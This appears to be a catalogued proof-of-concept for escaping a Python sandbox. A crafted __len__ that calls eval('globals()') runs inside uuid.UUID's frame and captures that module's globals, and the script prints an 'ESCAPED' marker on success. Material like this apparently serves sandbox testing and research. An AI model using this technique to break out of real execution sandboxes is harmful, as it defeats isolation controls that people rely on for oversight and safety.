# technique: uuid.UUID asks the length of what it is given
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import uuid
kept = []
peek = functools.partial(next, map(kept.append, map(eval, ['globals()'])), 0)


class Data:
    __len__ = staticmethod(peek)


try:
    uuid.UUID(bytes=Data())
except (TypeError, ValueError):
    pass
if kept[0]['__name__'] == 'uuid':
    print('ESCAPED globals of uuid')
